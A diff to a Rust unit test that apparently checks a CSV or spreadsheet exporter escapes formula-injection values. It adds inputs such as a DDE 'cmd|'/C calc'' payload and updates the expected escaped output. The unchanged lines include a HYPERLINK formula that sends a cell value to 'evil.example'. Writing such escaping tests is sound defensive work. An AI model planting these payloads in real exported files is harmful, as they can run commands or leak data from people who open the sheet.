@@ -242,12 +242,17 @@ async fn hostile_values_come_to_nothing() {
         "a\",\"=1",
         "-5",
         "=\0",
+        "x;=1+cmd|'/C calc'!A0",
+        "x\t-2+3",
+        "x; \"＝1",
+        "x;-5",
     ];
     let text = file(CONFIG, "", evil.map(|text| json!({ "=a": text })).to_vec()).await.unwrap();
     let expected = "'=a\r\n\
                     \"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"ok\"\")\"\r\n\
-                    '+1+cmd|' /C calc'!A0\r\n'-2+3\r\n'@SUM(A1)\r\n'\t=1\r\n\"'\r\n=1\"\r\n\
-                    \"a\"\",\"\"=1\"\r\n-5\r\n'=\0\r\n";
+                    '+1+cmd|' /C calc'!A0\r\n'-2+3\r\n'@SUM(A1)\r\n'\t'=1\r\n\"'\r\n'=1\"\r\n\
+                    \"a\"\",\"\"=1\"\r\n-5\r\n'=\0\r\n\
+                    x;'=1+cmd|'/C calc'!A0\r\nx\t'-2+3\r\n\"x;' \"\"＝1\"\r\nx;-5\r\n";
     assert_eq!(text, expected);
 }
 
